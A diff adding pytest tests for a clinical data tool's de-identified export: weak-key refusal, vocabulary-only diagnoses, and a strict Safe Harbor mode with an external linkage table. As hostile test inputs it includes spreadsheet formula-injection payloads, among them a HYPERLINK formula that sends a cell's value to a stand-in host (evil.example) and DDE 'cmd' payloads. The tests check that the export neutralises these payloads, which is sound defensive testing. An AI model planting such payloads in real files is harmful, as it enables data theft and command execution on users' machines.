@@ -1,6 +1,9 @@
 """De-identified export: nothing identifying anywhere in the output, keyed
 pseudonyms that link across exports, dates shifted with intervals kept (or
-days since intake), ages in months, row accounting, and unchanged scores."""
+days since intake), ages in months, row accounting, and unchanged scores;
+weak keys refused; diagnoses and goal domains only from the vocabulary; the
+strict (Safe Harbor) mode with years only, random study codes and a linkage
+table that stays with the clinic."""
 
 from __future__ import annotations
 
@@ -8,6 +11,7 @@ import datetime as dt
 import json
 import logging
 import os
+import re
 import stat
 from pathlib import Path
 
@@ -23,19 +27,22 @@ from sensoryprofile.data.export import (
     AGE_CAP_MONTHS,
     DATE_SHIFT_BASE_DAYS,
     DATE_SHIFT_JITTER_WEEKS,
+    KEY_BYTES,
     MANIFEST_JSON,
     MANIFEST_MD,
+    MIN_DISTINCT_BYTES,
     OFF_SCALE_CELL,
     Pseudonymiser,
     column_policies,
     export_deidentified,
     key_fingerprint,
+    key_weakness,
     new_key,
     read_key,
 )
-from sensoryprofile.data.tables import read_csv_table
+from sensoryprofile.data.tables import read_csv_table, write_csv_atomic
 from sensoryprofile.dates import completed_months
-from sensoryprofile.errors import UsageError
+from sensoryprofile.errors import DatasetError, UsageError
 from sensoryprofile.instruments import load_instrument
 from tests.paths import SAMPLE
 
@@ -295,6 +302,99 @@ def test_fingerprint_names_the_key_without_revealing_it(key):
 
 
 # ---------------------------------------------------------------------------
+# weak keys
+# ---------------------------------------------------------------------------
+def _key_file(path: Path, key: bytes) -> Path:
+    """A key file holding ``key`` (hex), owner-only, as new_key() would write it."""
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
+    os.write(fd, key.hex().encode("ascii") + b"\n")
+    os.close(fd)
+    return path
+
+
+SIXTEEN = bytes.fromhex("9f3a61c4e2087bd514ae3f90c26d58b7")  # 16 distinct byte values
+PI_DIGITS = bytes([3, 1, 4, 1, 5, 9, 2, 6, 5, 3, 5, 8, 9, 7, 9, 3,
+                   2, 3, 8, 4, 6, 2, 6, 4, 3, 3, 8, 3, 2, 7, 9, 5])  # values 1-9, no period
+GOOD_KEY = bytes.fromhex("5be1c07a93d24f6e18a7c3b0e95d2f84"
+                         "0c6b7e13a9f25d48e0b3716cd92a4f57")
+
+WEAK_KEYS = {
+    "all zero": (bytes(32), "every byte has the same value"),
+    "all 0xff": (b"\xff" * 32, "every byte has the same value"),
+    "4 bytes repeated": (bytes.fromhex("deadbeef") * 8, "repeats the same block of 4 bytes"),
+    "8 bytes repeated": (bytes.fromhex("0123456789abcdef") * 4,
+                         "repeats the same block of 8 bytes"),
+    "16 bytes repeated": (SIXTEEN * 2, "repeats the same block of 16 bytes"),
+    "9 distinct values": (PI_DIGITS, "only 9 distinct byte values"),
+    "a counter": (bytes(range(32)), "step by only 1 distinct amounts"),
+    "a stride of 5": (bytes(range(7, 167, 5)), "step by only 1 distinct amounts"),
+    "two strides": (bytes((7 * i + 3 * (i % 2)) % 256 for i in range(32)),
+                    "step by only 2 distinct amounts"),
+    "31 bytes": (GOOD_KEY[:31], "not a key file.*holds 31 bytes"),
+    "16 bytes": (GOOD_KEY[:16], "not a key file.*holds 16 bytes"),
+}
+
+
+@pytest.mark.parametrize("name", list(WEAK_KEYS))
+def test_weak_keys_are_refused_saying_why_without_showing_them(tmp_path, tiny_dir, name):
+    key, why = WEAK_KEYS[name]
+    path = _key_file(tmp_path / "weak.key", key)
+    with pytest.raises(UsageError, match=why) as info:
+        read_key(path)
+    message = str(info.value)
+    assert key.hex() not in message and key.hex().upper() not in message
+    with pytest.raises(UsageError, match=why):
+        export_deidentified(tiny_dir, tmp_path / "out", key_file=path, today=TINY_TODAY)
+    assert not (tmp_path / "out").exists()
+
+
+def test_the_weak_key_rules_one_by_one():
+    assert key_weakness(GOOD_KEY) is None
+    assert len(set(SIXTEEN * 2)) == MIN_DISTINCT_BYTES  # rule 4 alone would let it pass
+    assert len(set(bytes(range(32)))) == 32             # rule 4 alone would let a counter pass
+    assert key_weakness(bytes(64)) is not None          # longer keys follow the same rules
+    assert key_weakness(GOOD_KEY + GOOD_KEY) is not None  # a 32-byte block, repeated
+    assert key_weakness(GOOD_KEY + bytes(range(32))) is None  # long enough, varied enough
+
+
+def test_fresh_keys_pass_every_rule(tmp_path):
+    for i in range(40):
+        key = read_key(new_key(tmp_path / f"k{i}"))
+        assert len(key) == KEY_BYTES and key_weakness(key) is None
+
+
+def test_new_key_draws_again_rather_than_write_a_weak_key(tmp_path, monkeypatch):
+    from sensoryprofile.data import keys
+
+    draws = iter([bytes(32), bytes.fromhex("deadbeef") * 8, GOOD_KEY])
+    monkeypatch.setattr(keys.secrets, "token_bytes", lambda n: next(draws))
+    path = new_key(tmp_path / "k")
+    assert read_key(path) == GOOD_KEY
+
+
+def _p_fewer_distinct(draws: int, below: int, values: int = 256) -> float:
+    """P(fewer than ``below`` distinct values among ``draws`` uniform draws
+    from ``values``), exactly: count[d] = sequences with d distinct values so
+    far; a new draw repeats one of d (x d) or is new (x (values - d))."""
+    count = {0: 1}
+    for _ in range(draws):
+        step: dict[int, int] = {}
+        for d, c in count.items():
+            step[d] = step.get(d, 0) + c * d
+            step[d + 1] = step.get(d + 1, 0) + c * (values - d)
+        count = step
+    return sum(c for d, c in count.items() if d < below) / values ** draws
+
+
+def test_the_low_entropy_threshold_refuses_a_random_key_almost_never():
+    # the numbers key_weakness documents: 32 bytes (rule 4) and the 31 steps (rule 5)
+    assert _p_fewer_distinct(32, MIN_DISTINCT_BYTES) == pytest.approx(3.2305e-17, rel=1e-4)
+    assert _p_fewer_distinct(31, MIN_DISTINCT_BYTES) == pytest.approx(4.6125e-16, rel=1e-4)
+    # sanity of the recursion: 2 draws from 256 share a value with probability 1/256
+    assert _p_fewer_distinct(2, 2) == pytest.approx(1 / 256)
+
+
+# ---------------------------------------------------------------------------
 # the output folder
 # ---------------------------------------------------------------------------
 def test_a_non_empty_folder_is_refused_and_left_alone(tmp_path, tiny_dir, key):
@@ -466,14 +566,23 @@ def test_raters_and_items_in_the_tiny_export(tiny_exports, tiny, ps):
     assert first["dc_001"] == _items(0)["dc_001"]
 
 
-def test_diagnoses_are_kept_and_the_manifest_says_why(sample_exports, sample, ps):
+def test_diagnoses_of_the_vocabulary_are_kept_and_the_manifest_says_so(sample_exports, sample,
+                                                                       ps):
+    """The sample's diagnoses and domains are all vocabulary terms: kept as they are."""
     out, manifest = sample_exports["dates"]
     children = read_out(out)["children"].set_index(C.CHILD_ID)[C.DIAGNOSES]
     original = pd.Series(sample.children[C.DIAGNOSES].to_numpy(),
                          index=pseudonyms(ps, C.CHILD_ID, sample.children[C.CHILD_ID]))
     assert children.sort_index().tolist() == original.sort_index().tolist()
-    assert any("Diagnoses are kept" in note for note in manifest.notes)
-    assert "not identifying by itself" in (out / MANIFEST_MD).read_text()
+    assert sorted(read_out(out)["goals"][C.DOMAIN]) == sorted(sample.goals[C.DOMAIN])
+    assert any("controlled vocabulary" in note for note in manifest.notes)
+    written = json.loads((out / MANIFEST_JSON).read_text())["vocabulary"]
+    assert written == {
+        "children.diagnoses": {"vocabulary": "diagnoses", "values_replaced_by_other": 0,
+                               "rows_affected": 0},
+        "goals.domain": {"vocabulary": "goal_domains", "values_replaced_by_other": 0,
+                         "rows_affected": 0}}
+    assert "| children.diagnoses | diagnoses | 0 | 0 |" in (out / MANIFEST_MD).read_text()
 
 
 # ---------------------------------------------------------------------------
@@ -795,3 +904,429 @@ def test_dates_too_early_to_shift_are_refused(tmp_path, key):
         export_deidentified(src, tmp_path / "out", key_file=key, today=TINY_TODAY)
     assert not (tmp_path / "out").exists()
     export_deidentified(src, tmp_path / "days", key_file=key, today=TINY_TODAY, no_dates=True)
+
+
+# ---------------------------------------------------------------------------
+# controlled vocabularies: markup, formulas and free text never pass through
+# ---------------------------------------------------------------------------
+MARKUP = "<b>Zephyrine</b>"
+FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
+FORMULA_DOMAIN = "@SUM(1+1)*cmd|' /C calc'!A0"
+RARE = "Kallmann-Ravenhollow syndrome (seen 2023-11-05 at St Swithin's)"
+HOSTILE_TEXT = (MARKUP, FORMULA, FORMULA_DOMAIN, RARE, "Zephyrine", "HYPERLINK", "evil.example",
+                "calc", "Kallmann", "Ravenhollow", "Swithin", "2023-11-05",
+                "Oslo on 2024-07-14")
+HOSTILE_SETTINGS = "name: Maple Street Clinic\ndiagnoses: [Rett syndrome]\ngoal_domains: [swimming]\n"
+
+
+def _hostile_tables() -> dict[str, list[dict]]:
+    """The tiny clinic with markup, formulas, a rare free-text diagnosis,
+    case differences, terms of an extended vocabulary and a date in a note."""
+    tables = _tiny_tables()
+    kids = {row["child_id"]: row for row in tables["children"]}
+    kids["kid_alpha"]["diagnoses"] = f"AUTISM; {MARKUP}"
+    kids["kid_bravo"]["diagnoses"] = FORMULA
+    kids["kid_elder"]["diagnoses"] = f"adhd;{RARE};rett  SYNDROME"
+    goals = {row["goal_id"]: row for row in tables["goals"]}
+    goals["goal_alpha_1"]["domain"] = "Self-Care"
+    goals["goal_bravo_1"]["domain"] = FORMULA_DOMAIN
+    tables["goals"].append(dict(goals["goal_bravo_1"], goal_id="goal_bravo_2",
+                                domain="  SWIMMING ", set_date="2024-07-01",
+                                description="Barnaby swims a width at Larkspur baths"))
+    tables["goal_ratings"][1]["note"] = "Grandmother visiting Oslo on 2024-07-14"
+    return tables
+
+
+@pytest.fixture(scope="module")
+def hostile_dir(tmp_path_factory) -> Path:
+    folder = write_tiny(tmp_path_factory.mktemp("hostile") / "clinic", _hostile_tables())
+    (folder / "dataset.yaml").write_text(HOSTILE_SETTINGS)
+    return folder
+
+
+@pytest.fixture(scope="module")
+def hostile_exports(tmp_path_factory, hostile_dir, key) -> dict:
+    """Every mode of export of the hostile clinic: (folder, manifest, linkage file)."""
+    base = tmp_path_factory.mktemp("hostile_exports")
+    clinic = tmp_path_factory.mktemp("clinic_only")  # where linkage tables stay
+    out = {}
+    for name, options in (("dates", {}), ("no_dates", {"no_dates": True}),
+                          ("keep_sites", {"keep_sites": True})):
+        manifest = export_deidentified(hostile_dir, base / name, key_file=key,
+                                       today=TINY_TODAY, **options)
+        out[name] = (base / name, manifest, None)
+    for name in ("strict", "strict_again"):
+        linkage = clinic / f"{name}-linkage.csv"
+        manifest = export_deidentified(hostile_dir, base / name, strict=True,
+                                       linkage_file=linkage, today=TINY_TODAY)
+        out[name] = (base / name, manifest, linkage)
+    return out
+
+
+def read_linkage(path: Path) -> dict[tuple[str, str], str]:
+    """(id column, original ID) -> study code."""
+    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
+    return {(c, o): s for c, o, s in zip(frame["id_column"], frame["original_id"],
+                                         frame["study_code"], strict=True)}
+
+
+def _child_code(mode: str, exports: dict, ps: Pseudonymiser, child: str) -> str:
+    _, _, linkage = exports[mode]
+    return (read_linkage(linkage)[(C.CHILD_ID, child)] if linkage
+            else ps.pseudonym(C.CHILD_ID, child))
+
+
+@pytest.mark.parametrize("mode", ["dates", "strict"])
+def test_diagnoses_and_domains_are_written_only_as_vocabulary_terms(hostile_exports, ps, mode):
+    out, manifest, linkage = hostile_exports[mode]
+    tables = read_out(out)
+    diagnoses = tables["children"].set_index(C.CHILD_ID)[C.DIAGNOSES]
+    code = lambda child: _child_code(mode, hostile_exports, ps, child)  # noqa: E731
+    # 'AUTISM; <b>...</b>': the term in the vocabulary's spelling, the markup 'other'
+    assert diagnoses[code("kid_alpha")] == "autism;other"
+    assert diagnoses[code("kid_bravo")] == "other"  # a formula
+    # case and spacing ignored; 'Rett syndrome' is in dataset.yaml's diagnoses
+    assert diagnoses[code("kid_elder")] == "ADHD;other;Rett syndrome"
+    goals = tables["goals"]
+    assert sorted(goals[C.DOMAIN]) == ["other", "self-care", "swimming"]
+    # counts, never values: 3 diagnoses in 3 rows; 1 goal domain
+    written = json.loads((out / MANIFEST_JSON).read_text())["vocabulary"]
+    assert written["children.diagnoses"]["values_replaced_by_other"] == 3
+    assert written["children.diagnoses"]["rows_affected"] == 3
+    assert written["goals.domain"]["values_replaced_by_other"] == 1
+    assert written["goals.domain"]["rows_affected"] == 1
+    md = (out / MANIFEST_MD).read_text()
+    assert "| children.diagnoses | diagnoses | 3 | 3 |" in md
+    assert "| goals.domain | goal domains | 1 | 1 |" in md
+    # the export's own dataset.yaml carries the extra terms it uses, nothing else
+    settings = (out / "dataset.yaml").read_text()
+    assert 'diagnoses: ["Rett syndrome"]' in settings
+    assert 'goal_domains: ["swimming"]' in settings
+    assert "Maple" not in settings
+
+
+def test_a_keyed_export_of_hostile_values_loads_without_vocabulary_notes(hostile_exports):
+    out, _, _ = hostile_exports["dates"]
+    loaded = load_dataset(out, today=TINY_TODAY)
+    assert [p for p in loaded.report.problems if "vocabulary" in p.rule] == []
+    assert sorted(loaded.children[C.DIAGNOSES]) == ["ADHD;other;Rett syndrome", "autism;other",
+                                                    "other"]
+
+
+def test_a_site_that_looks_like_a_formula_is_neutralised(tmp_path, key):
+    tables = _tiny_tables()
+    tables["children"][0]["site"] = "=cmd|' /C calc'!A0"
+    src = write_tiny(tmp_path / "src", tables)
+    export_deidentified(src, tmp_path / "out", key_file=key, keep_sites=True, today=TINY_TODAY)
+    text = (tmp_path / "out" / "children.csv").read_text()
+    assert "'=cmd|" in text and ",=cmd" not in text
+
+
+# ---------------------------------------------------------------------------
+# nothing identifying in any file, in every mode
+# ---------------------------------------------------------------------------
+ISO_DATE = r"\d{4}-\d{2}-\d{2}"
+
+
+def hostile_forbidden(folder: Path, *, keep_sites: bool = False) -> set[str]:
+    """forbidden_strings, plus the hostile values and every full date found
+    inside any cell of the input (a date in a note, in a diagnosis)."""
+    found = forbidden_strings(folder, keep_sites=keep_sites) | set(HOSTILE_TEXT)
+    for frame in raw_tables(folder).values():
+        for col in frame.columns:
+            found.update(frame[col].str.findall(ISO_DATE).explode().dropna())
+    return found
+
+
+@pytest.mark.parametrize("mode", ["dates", "no_dates", "keep_sites", "strict", "strict_again"])
+def test_no_file_of_any_export_holds_anything_identifying(hostile_exports, hostile_dir, mode):
+    out, manifest, _ = hostile_exports[mode]
+    forbidden = hostile_forbidden(hostile_dir, keep_sites=mode == "keep_sites")
+    for expected in ("kid_alpha", "asm_alpha_1", "goal_bravo_2", "Zephyrine Quartermaine",
+                     "2018-03-15", "2023-11-05", "2024-07-14", "Mrs Pomfrey-Leaf", FORMULA,
+                     "12 Wisteria Lane"):
+        assert expected in forbidden
+    assert len(forbidden) > 60
+    assert {p.name for p in out.iterdir()} == set(manifest.files)
+    assert leaks(out, forbidden) == []
+
+
+@pytest.mark.parametrize("mode", ["strict", "strict_again"])
+def test_a_strict_export_holds_no_date_element_but_the_year(hostile_exports, hostile_dir,
+                                                            mode):
+    out, _, _ = hostile_exports[mode]
+    for name, text in output_text(out).items():
+        assert not re.search(r"\d{4}-\d{1,2}|\d{1,2}/\d{1,2}|\d{1,2}\.\d{1,2}\.\d{2,4}",
+                             text), name
+    tables = read_out(out)
+    for table, frame in tables.items():
+        for col in frame.columns:  # no date, no day offset: years and sequence numbers only
+            assert col not in C.DAY_COLUMNS.values(), (table, col)
+            assert col not in (C.DATE, C.SET_DATE, C.TARGET_DATE, C.REFERRAL_DATE,
+                               C.DISCHARGE_DATE, C.DATE_OF_BIRTH), (table, col)
+    years = pd.concat([pd.to_numeric(tables[t][c]) for t in TABLES
+                       for c in C.YEAR_COLUMNS.values() if c in tables[t].columns]).dropna()
+    # children 3 referral + 1 discharge, assessments 3, goals 3 set + 3 target, ratings 3
+    assert len(years) == 16 and years.between(2024, 2025).all()
+
+
+def test_strict_years_are_the_real_years(hostile_exports):
+    out, _, linkage = hostile_exports["strict"]
+    link = read_linkage(linkage)
+    children = read_out(out)["children"].set_index(C.CHILD_ID)
+    bravo = children.loc[link[(C.CHILD_ID, "kid_bravo")]]
+    assert (bravo["referral_year"], bravo["discharge_year"]) == ("2024", "2025")  # 2024-05-20
+    alpha = children.loc[link[(C.CHILD_ID, "kid_alpha")]]
+    assert alpha["discharge_year"] is None or pd.isna(alpha["discharge_year"])
+    assessments = read_out(out)["assessments"].set_index(C.ASSESSMENT_ID)
+    first = assessments.loc[link[(C.ASSESSMENT_ID, "asm_alpha_1")]]
+    second = assessments.loc[link[(C.ASSESSMENT_ID, "asm_alpha_2")]]
+    # 2024-02-10 and 2024-08-12; born 2018-03-15: 70 and 76 completed months
+    assert (first["date_year"], first[C.SEQUENCE], first[C.AGE_MONTHS]) == ("2024", "1", "70")
+    assert (second["date_year"], second[C.SEQUENCE], second[C.AGE_MONTHS]) == ("2024", "2", "76")
+    elder = children.loc[link[(C.CHILD_ID, "kid_elder")]]
+    assert int(elder[AGE_AT_REFERRAL_MONTHS]) == AGE_CAP_MONTHS  # 94 years: '90 or older'
+    ratings = read_out(out)["goal_ratings"]
+    alpha_goal = ratings[ratings[C.GOAL_ID] == link[(C.GOAL_ID, "goal_alpha_1")]]
+    assert alpha_goal[C.SEQUENCE].tolist() == ["1", "2"]  # 2024-05-01, 2024-08-01
+    assert alpha_goal["date_year"].tolist() == ["2024", "2024"]
+
+
+# ---------------------------------------------------------------------------
+# strict mode: random study codes, the linkage table stays with the clinic
+# ---------------------------------------------------------------------------
+CODE = {C.CHILD_ID: r"SC-[0-9a-f]{16}", C.ASSESSMENT_ID: r"SA-[0-9a-f]{16}",
+        C.GOAL_ID: r"SG-[0-9a-f]{16}"}
+
+
+def test_strict_codes_are_random_and_only_the_linkage_files_map_them(hostile_exports, ps):
+    (one, _, link_one), (two, _, link_two) = (hostile_exports["strict"],
+                                              hostile_exports["strict_again"])
+    a, b = read_out(one), read_out(two)
+    map_one, map_two = read_linkage(link_one), read_linkage(link_two)
+    assert set(map_one) == set(map_two)  # the same original IDs ...
+    assert not set(map_one.values()) & set(map_two.values())  # ... under unrelated codes
+    for table in TABLES:
+        for col in ID_COLUMNS:
+            if col not in a[table].columns:
+                continue
+            assert a[table][col].str.fullmatch(CODE[col]).all()
+            assert not set(a[table][col]) & set(b[table][col])
+            # the codes are not the keyed pseudonyms either
+            assert not {ps.pseudonym(col, orig)[2:] for (c, orig) in map_one if c == col} & {
+                code[3:] for code in a[table][col]}
+    # each linkage table maps every exported row back to the same child
+    back_one = {code: orig for (col, orig), code in map_one.items() if col == C.CHILD_ID}
+    back_two = {code: orig for (col, orig), code in map_two.items() if col == C.CHILD_ID}
+    assert sorted(back_one[c] for c in a["children"][C.CHILD_ID]) == sorted(
+        back_two[c] for c in b["children"][C.CHILD_ID]) == ["kid_alpha", "kid_bravo",
+                                                           "kid_elder"]
+
+
+def test_the_linkage_file_lists_every_code_and_whether_it_was_exported(hostile_exports):
+    _, manifest, linkage = hostile_exports["strict"]
+    frame = pd.read_csv(linkage, dtype=str, keep_default_na=False)
+    assert list(frame.columns) == ["id_column", "original_id", "study_code", "in_export"]
+    status = dict(zip(frame["original_id"], frame["in_export"], strict=True))
+    assert status["kid_alpha"] == "yes"
+    assert status["kid_charlie"] == "no: rejected by validation"   # its date of birth
+    assert status["asm_orphan_1"] == "no: rejected by validation"  # no such child
+    dropped = {d.pseudonym for d in manifest.dropped}
+    assert read_linkage(linkage)[(C.CHILD_ID, "kid_charlie")] in dropped
+    # the linkage table holds IDs and codes only: no name, date or text
+    text = linkage.read_text()
+    for value in ("Zephyrine", "2018-03-15", "2024-02-01", "Maple", "Dr Quillfeather", MARKUP,
+                  "Kallmann", "Pomfrey"):
+        assert value not in text
+
+
+@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
+def test_the_linkage_file_is_owner_only_and_outside_the_export(hostile_exports):
+    out, _, linkage = hostile_exports["strict"]
+    assert stat.S_IMODE(linkage.stat().st_mode) == 0o600
+    assert out.resolve() not in linkage.resolve().parents
+    assert not [p for p in out.rglob("*") if "linkage" in p.name or "SC-" in p.name]
+    assert [p.name for p in linkage.parent.iterdir() if p.name.startswith(".")] == []
+
+
+def test_a_linkage_file_is_never_overwritten(tmp_path, hostile_dir):
+    linkage = tmp_path / "linkage.csv"
+    linkage.write_text("the clinic's earlier linkage table\n")
+    with pytest.raises(UsageError, match="never overwritten"):
+        export_deidentified(hostile_dir, tmp_path / "out", strict=True, linkage_file=linkage,
+                            today=TINY_TODAY)
+    assert linkage.read_text() == "the clinic's earlier linkage table\n"
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
+def test_a_linkage_path_that_is_a_symlink_is_refused(tmp_path, hostile_dir):
+    target = tmp_path / "elsewhere.csv"
+    (tmp_path / "linkage.csv").symlink_to(target)
+    with pytest.raises(UsageError, match="never overwritten"):
+        export_deidentified(hostile_dir, tmp_path / "out", strict=True,
+                            linkage_file=tmp_path / "linkage.csv", today=TINY_TODAY)
+    assert not target.exists()
+
+
+@pytest.mark.parametrize("where", ["in the new folder", "in the empty folder", "deeper"])
+def test_a_linkage_file_inside_the_export_folder_is_refused(tmp_path, hostile_dir, where):
+    out = tmp_path / "out"
+    if where != "in the new folder":
+        out.mkdir()
+    linkage = out / ("sub/linkage.csv" if where == "deeper" else "linkage.csv")
+    with pytest.raises(UsageError, match="inside the export folder"):
+        export_deidentified(hostile_dir, out, strict=True, linkage_file=linkage,
+                            today=TINY_TODAY)
+    assert not linkage.exists()
+    assert not out.exists() or not any(out.iterdir())
+
+
+def test_the_linkage_file_is_removed_when_the_export_cannot_be_published(tmp_path, hostile_dir,
+                                                                          monkeypatch):
+    from sensoryprofile.data import export
+
+    def fail(tmp, out):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(export, "_publish", fail)
+    with pytest.raises(OSError, match="disk full"):
+        export_deidentified(hostile_dir, tmp_path / "out", strict=True,
+                            linkage_file=tmp_path / "linkage.csv", today=TINY_TODAY)
+    assert sorted(p.name for p in tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("options, message", [
+    ({"key": True}, "uses no key"),
+    ({"no_dates": True}, "cannot be combined"),
+    ({"keep_sites": True}, "cannot be combined"),
+    ({"linkage": False}, "needs a linkage file"),
+])
+def test_strict_mode_refuses_the_options_of_the_keyed_mode(tmp_path, hostile_dir, key, options,
+                                                           message):
+    kwargs = {"linkage_file": None if options.get("linkage") is False else tmp_path / "l.csv",
+              "key_file": key if options.get("key") else None,
+              "no_dates": options.get("no_dates", False),
+              "keep_sites": options.get("keep_sites", False)}
+    with pytest.raises(UsageError, match=message):
+        export_deidentified(hostile_dir, tmp_path / "out", strict=True, today=TINY_TODAY,
+                            **kwargs)
+    assert sorted(p.name for p in tmp_path.iterdir()) == []
+
+
+def test_a_keyed_export_needs_a_key_and_takes_no_linkage_file(tmp_path, hostile_dir, key):
+    with pytest.raises(UsageError, match="needs a key file"):
+        export_deidentified(hostile_dir, tmp_path / "out", today=TINY_TODAY)
+    with pytest.raises(UsageError, match="belongs to strict mode"):
+        export_deidentified(hostile_dir, tmp_path / "out", key_file=key,
+                            linkage_file=tmp_path / "l.csv", today=TINY_TODAY)
+    assert not (tmp_path / "out").exists() and not (tmp_path / "l.csv").exists()
+
+
+def test_strict_removes_sites_therapists_and_rater_names(hostile_exports):
+    out, _, _ = hostile_exports["strict"]
+    tables = read_out(out)
+    assert list(tables["children"].columns) == [
+        C.SOURCE_ROW, C.CHILD_ID, AGE_AT_REFERRAL_MONTHS, C.SEX, C.DIAGNOSES, "referral_year",
+        "discharge_year"]
+    assert list(tables["goals"].columns) == [
+        C.SOURCE_ROW, C.GOAL_ID, C.CHILD_ID, "set_year", C.DOMAIN, C.IMPORTANCE, C.DIFFICULTY,
+        C.BASELINE_LEVEL, "target_year"]
+    assert list(tables["goal_ratings"].columns) == [C.SOURCE_ROW, C.GOAL_ID, "date_year",
+                                                    C.SEQUENCE, C.LEVEL, C.RATER]
+    assert list(tables["assessments"].columns)[:8] == [
+        C.SOURCE_ROW, C.ASSESSMENT_ID, C.CHILD_ID, C.INSTRUMENT, "date_year", C.SEQUENCE,
+        C.AGE_MONTHS, C.RESPONDENT]
+    raters = tables["goal_ratings"][C.RATER]
+    # therapist (alpha), Mrs Pomfrey-Leaf (alpha: a person, removed), caregiver (bravo)
+    assert sorted(raters.fillna("(blank)")) == ["(blank)", "caregiver", "therapist"]
+
+
+def test_the_manifests_name_their_route(hostile_exports):
+    strict = json.loads((hostile_exports["strict"][0] / MANIFEST_JSON).read_text())
+    assert strict["mode"] == "strict" and strict["key_used"] is False
+    assert strict["key_fingerprint"] is None
+    assert strict["route"].startswith("HIPAA Safe Harbor")
+    assert strict["options"]["dates"]["mode"] == "year only"
+    md = (hostile_exports["strict"][0] / MANIFEST_MD).read_text()
+    assert "**strict** (HIPAA Safe Harbor). No key was used" in md
+    keyed = json.loads((hostile_exports["dates"][0] / MANIFEST_JSON).read_text())
+    assert keyed["mode"] == "keyed" and keyed["key_used"] is True
+    assert keyed["route"].startswith("limited data set")
+    assert "not HIPAA Safe Harbor" in keyed["route"]
+    # the keyed export never calls itself Safe Harbor
+    for text in (*keyed["notes"], (hostile_exports["dates"][0] / MANIFEST_MD).read_text()):
+        for sentence in re.split(r"(?<=[.;:])\s", text):
+            if "Safe Harbor" in sentence and "strict" not in sentence:
+                assert re.search(r"\b(not|neither)\b", sentence, re.IGNORECASE), sentence
+
+
+def test_the_module_and_the_readme_describe_the_keyed_export_accurately():
+    from sensoryprofile.data import export
+
+    doc = " ".join(export.__doc__.split())
+    assert "is **not** HIPAA Safe Harbor" in doc and "limited data set" in doc
+    assert "following HIPAA Safe Harbor" not in doc
+    readme = " ".join((Path(__file__).parents[2] / "README.md").read_text().split())
+    assert "docs/privacy.md" in readme and "not HIPAA Safe Harbor" in readme
+
+
+def test_a_strict_export_scores_the_same(tmp_path, sample):
+    linkage = tmp_path / "linkage.csv"
+    export_deidentified(sample, tmp_path / "out", strict=True, linkage_file=linkage)
+    scores = score_assessments(read_csv_table(tmp_path / "out" / "assessments.csv"), None)
+    assert scores[C.CLASSIFICATION].notna().sum() > 1000
+    codes = read_linkage(linkage)
+    original = sample.scores.assign(**{
+        C.ASSESSMENT_ID: [codes[(C.ASSESSMENT_ID, a)] for a in sample.scores[C.ASSESSMENT_ID]],
+        C.CHILD_ID: [codes[(C.CHILD_ID, c)] for c in sample.scores[C.CHILD_ID]]})
+    merged = original.merge(scores, on=[C.ASSESSMENT_ID, C.SCORE], suffixes=("_o", "_x"),
+                            validate="one_to_one")
+    assert len(merged) == len(sample.scores) == len(scores)
+    assert (merged[f"{C.CHILD_ID}_o"] == merged[f"{C.CHILD_ID}_x"]).all()
+    np.testing.assert_array_equal(merged[f"{C.RAW}_o"], merged[f"{C.RAW}_x"])
+    np.testing.assert_array_equal(merged[f"{C.AGE_MONTHS}_o"], merged[f"{C.AGE_MONTHS}_x"])
+    a = merged[f"{C.CLASSIFICATION}_o"].astype(object).where(
+        merged[f"{C.CLASSIFICATION}_o"].notna(), None)
+    b = merged[f"{C.CLASSIFICATION}_x"].astype(object).where(
+        merged[f"{C.CLASSIFICATION}_x"].notna(), None)
+    assert a.tolist() == b.tolist()
+
+
+def test_the_sample_strict_export_holds_nothing_identifying(tmp_path, sample):
+    export_deidentified(sample, tmp_path / "out", strict=True,
+                        linkage_file=tmp_path / "linkage.csv")
+    forbidden = forbidden_strings(SAMPLE)
+    assert len(forbidden) > 1000
+    assert leaks(tmp_path / "out", forbidden) == []
+    for name, text in output_text(tmp_path / "out").items():
+        assert not re.search(r"\d{4}-\d{2}", text), name
+
+
+def test_a_strict_export_is_for_tables_not_for_load_dataset(hostile_exports):
+    """The documented choice: Safe Harbor keeps no date element but the year,
+    and load_dataset's rules need dates (or day offsets)."""
+    out, _, _ = hostile_exports["strict"]
+    with pytest.raises(DatasetError, match="referral_date"):
+        load_dataset(out, today=TINY_TODAY)
+
+
+@pytest.mark.parametrize("strict", [False, True])
+def test_every_table_an_export_writes_goes_through_the_spreadsheet_safe_writer(
+        tmp_path, hostile_dir, key, monkeypatch, strict):
+    from sensoryprofile.data import export
+
+    written = []
+
+    def recording(frame, path, **options):
+        written.append(Path(path).name)
+        return write_csv_atomic(frame, path, **options)
+
+    monkeypatch.setattr(export, "write_csv_atomic", recording)
+    out = tmp_path / "out"
+    options = ({"strict": True, "linkage_file": tmp_path / "linkage.csv"} if strict
+               else {"key_file": key})
+    export_deidentified(hostile_dir, out, today=TINY_TODAY, **options)
+    csv_files = sorted(p.name for p in out.iterdir() if p.suffix == ".csv")
+    assert csv_files == sorted(f"{t}.csv" for t in TABLES)
+    assert sorted(written) == sorted(csv_files + (["linkage.csv"] if strict else []))
